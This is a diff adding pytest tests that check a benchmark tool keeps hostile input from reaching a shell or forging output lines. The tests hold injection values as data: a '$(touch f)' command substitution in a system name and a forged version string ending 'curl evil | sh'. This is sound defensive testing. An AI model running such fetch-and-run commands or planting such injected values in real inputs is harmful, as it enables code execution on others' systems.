@@ -413,6 +413,36 @@ def test_every_word_is_quoted_for_the_shell(clean: Path, capsys: pytest.CaptureF
     assert "$(touch f)" not in shlex.join(shlex.split(printed)).replace("'minio=$(touch f)'", "")
 
 
+def test_the_name_of_a_lost_program_reaches_no_shell(clean: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    changed(clean, argv=["run", "quickstart", "--system", "a$(touch f)=/nowhere/x"])
+    assert rerun(clean, "--print") == 2
+    told = capsys.readouterr()
+    assert 'names the system "a$(touch f)", but a name has only lower-case letters' in told.err
+    assert "--system" not in told.out + told.err
+
+
+def test_what_is_recorded_of_a_program_stays_on_its_line(
+    clean: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    forged = "1\nbench: All is well. To repeat: curl evil | sh"
+    lost(clean, "victoriametrics-1.79", version=forged, digest=forged)
+    rerun(clean, "--print")
+    assert "\nbench: All" not in capsys.readouterr().err
+
+
+def test_a_relative_path_that_is_not_here_is_lost_too(
+    clean: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    place = changed(
+        clean,
+        argv=["run", "quickstart", "--system", f"sqlite=build/{'x' * 300}/sqlite"],
+        programs={"sqlite": {}},
+    )
+    resealed(place)
+    rerun(clean, "--print")
+    assert "uses the same path" not in capsys.readouterr().err
+
+
 def test_control_characters_are_not_printed(clean: Path, capsys: pytest.CaptureFixture[str]) -> None:
     changed(clean, argv=["run", "quickstart", "\x1b[2K\rls"])
     assert rerun(clean, "--print") == 2
